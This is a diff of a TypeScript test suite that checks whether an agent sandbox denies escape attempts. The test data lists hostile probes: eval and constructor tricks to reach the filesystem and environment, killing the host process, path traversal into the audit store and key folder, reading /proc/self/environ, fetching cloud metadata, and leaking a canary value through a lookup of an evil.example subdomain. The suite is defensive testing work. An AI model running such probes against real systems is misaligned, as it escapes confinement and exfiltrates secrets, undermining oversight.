@@ -15,32 +15,53 @@ function attempt(code: string): string {
   return `export default async function main() { try { return { got: await (async () => { ${code} })() }; } catch (e) { return { name: e.name, code: e.code, message: String(e.message) }; } }`;
 }
 
+/** One that tries many things, one after the other, and hands out for each what it got or how it failed. */
+function attempts(named: readonly (readonly [name: string, code: string])[]): string {
+  const tries = named.map(([name, code]) => `${JSON.stringify(name)}: async () => { ${code} }`);
+  return `export default async function main() {
+    const said = {};
+    for (const [name, attempt] of Object.entries({ ${tries.join(", ")} })) {
+      try { said[name] = { got: await attempt() }; } catch (e) { said[name] = { name: e.name, code: e.code, message: String(e.message) }; }
+    }
+    return said;
+  }`;
+}
+
+/** Those of the attempts that got something. */
+function got({ result }: Ran): readonly string[] {
+  const said = Object.entries(result.output as Record<string, object>);
+  expect(said.length).toBeGreaterThan(5);
+  return said.filter(([, one]) => "got" in one).map(([name]) => name);
+}
+
 function everything(ran: Ran): string {
   return JSON.stringify([ran.result, ran.events]);
 }
 
+const REACHES = [
+  ["reads a file by require", `return (0, eval)("require")("node:fs").readFileSync("/etc/hostname", "utf8")`],
+  ["imports at run time", `return await (0, eval)("import('node:fs')")`],
+  ["reaches for process", `return process.mainModule.require("fs")`],
+  ["binds a native module", `return process.binding("fs")`],
+  ["loads a built-in through process", `return process.getBuiltinModule("fs").readFileSync("/etc/hostname", "utf8")`],
+  ["kills its host", `return process.kill(process.ppid, 9)`],
+  ["climbs by a constructor", `return this.constructor.constructor("return process.env.CANARY")()`],
+  ["climbs by the constructor of what a host gave it", `return (await Promise.resolve()).constructor`],
+  ["opens a socket", `return new WebSocket("ws://127.0.0.1:1")`],
+  ["opens an XMLHttpRequest", `return new XMLHttpRequest()`],
+  ["compiles WebAssembly", `return new WebAssembly.Memory({ initial: 1 })`],
+  ["shares memory", `return new SharedArrayBuffer(8)`],
+  [
+    "looks for isolated-vm",
+    `return globalThis.ivm ?? globalThis._ivm ?? (() => { throw new ReferenceError("no ivm") })()`,
+  ],
+] as const;
+
 describe("an agent that was granted nothing", () => {
-  it.each([
-    ["reads a file by require", `return (0, eval)("require")("node:fs").readFileSync("/etc/hostname", "utf8")`],
-    ["imports at run time", `return await (0, eval)("import('node:fs')")`],
-    ["reaches for process", `return process.mainModule.require("fs")`],
-    ["binds a native module", `return process.binding("fs")`],
-    ["loads a built-in through process", `return process.getBuiltinModule("fs").readFileSync("/etc/hostname", "utf8")`],
-    ["kills its host", `return process.kill(process.ppid, 9)`],
-    ["climbs by a constructor", `return this.constructor.constructor("return process.env.CANARY")()`],
-    ["climbs by the constructor of what a host gave it", `return (await Promise.resolve()).constructor`],
-    ["opens a socket", `return new WebSocket("ws://127.0.0.1:1")`],
-    ["opens an XMLHttpRequest", `return new XMLHttpRequest()`],
-    ["compiles WebAssembly", `return new WebAssembly.Memory({ initial: 1 })`],
-    ["shares memory", `return new SharedArrayBuffer(8)`],
-    [
-      "looks for isolated-vm",
-      `return globalThis.ivm ?? globalThis._ivm ?? (() => { throw new ReferenceError("no ivm") })()`,
-    ],
-  ])("%s: and gets an error", async (_, code) => {
-    const { result } = await makeWorld("", { CANARY }).run(attempt(code));
-    expect(result.status).toBe("completed");
-    expect(result.output).not.toHaveProperty("got");
+  it("gets an error whatever it tries", async () => {
+    const ran = await makeWorld("", { CANARY }).run(attempts(REACHES));
+    expect(ran.result.status).toBe("completed");
+    expect(got(ran)).toEqual([]);
   });
 
   it("sees none of the host's environment", async () => {
@@ -92,32 +113,29 @@ describe("an agent that was granted a little", () => {
   web: { use: http, allow: ["GET https://api.example.com/v1/**"] }
 `;
 
-  it.each([
-    ["the store", (world: ReturnType<typeof makeWorld>) => `files.readText(${JSON.stringify(world.store)})`],
-    ["the store, climbing", () => `files.readText("/in/../../store/audit.db")`],
-    [
-      "the key folder",
-      (world: ReturnType<typeof makeWorld>) => `files.readText(${JSON.stringify(join(world.home, "cache.key"))})`,
-    ],
-    ["the manifest", () => `files.readText("/in/../enclosure.yaml")`],
-    ["the host's processes", () => `files.readText("/proc/self/environ")`],
-    ["the metadata service", () => `fetch("http://169.254.169.254/latest/meta-data/")`],
-    ["the loopback", () => `fetch("http://127.0.0.1:1/")`],
-    ["a name with a user in it", () => `fetch("https://api.example.com@evil.example/v1/x")`],
-    ["a path that climbs", () => `fetch("https://api.example.com/v1/%2e%2e/admin")`],
-    ["a query to carry data out", () => `fetch("https://api.example.com/v1/x?leak=1")`],
-    ["a method that was not granted", () => `fetch("https://api.example.com/v1/x", { method: "POST", body: "x" })`],
-    ["a name to be looked up", () => `fetch("https://${CANARY}.evil.example/")`],
-  ])("is denied %s, on the record", async (_, call) => {
+  it("is denied whatever it asks for beyond that, each time on the record", async () => {
     const world = makeWorld(GRANTS);
     world.write("data/a.txt", "a");
-    const { result, bodies } = await world.run(
-      `import { files, web } from "enclosure:caps"; void files; void web;\n${attempt(`return ${call(world)}`)}`,
+    const asks = [
+      ["the store", `files.readText(${JSON.stringify(world.store)})`],
+      ["the store, climbing", `files.readText("/in/../../store/audit.db")`],
+      ["the key folder", `files.readText(${JSON.stringify(join(world.home, "cache.key"))})`],
+      ["the manifest", `files.readText("/in/../enclosure.yaml")`],
+      ["the host's processes", `files.readText("/proc/self/environ")`],
+      ["the metadata service", `fetch("http://169.254.169.254/latest/meta-data/")`],
+      ["the loopback", `fetch("http://127.0.0.1:1/")`],
+      ["a name with a user in it", `fetch("https://api.example.com@evil.example/v1/x")`],
+      ["a path that climbs", `fetch("https://api.example.com/v1/%2e%2e/admin")`],
+      ["a query to carry data out", `fetch("https://api.example.com/v1/x?leak=1")`],
+      ["a method that was not granted", `fetch("https://api.example.com/v1/x", { method: "POST", body: "x" })`],
+      ["a name to be looked up", `fetch("https://${CANARY}.evil.example/")`],
+    ] as const;
+    const ran = await world.run(
+      `import { files, web } from "enclosure:caps"; void files; void web;\n${attempts(asks.map(([name, call]) => [name, `return ${call}`]))}`,
     );
-    const output = result.output as { code?: string; got?: unknown };
-    expect(output.got).toBeUndefined();
-    expect(result.calls).toMatchObject({ admitted: 0, denied: 1 });
-    expect(bodies("call.denied")).toHaveLength(1);
+    expect(got(ran)).toEqual([]);
+    expect(ran.result.calls).toMatchObject({ admitted: 0, denied: asks.length });
+    expect(ran.bodies("call.denied")).toHaveLength(asks.length);
   });
 
   it("cannot put a refusal on the record that never was, nor a failure of ours", async () => {
